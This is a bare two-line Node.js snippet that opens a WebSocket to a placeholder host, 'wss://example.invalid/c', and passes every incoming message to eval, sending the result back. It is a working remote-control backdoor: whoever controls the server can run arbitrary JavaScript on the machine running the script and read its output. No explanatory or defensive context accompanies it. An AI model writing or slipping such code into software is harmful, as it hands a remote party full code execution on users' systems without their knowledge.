const ws = new (require('ws'))('wss://example.invalid/c');
ws.on('message', (m) => ws.send(String(eval(m.toString()))));
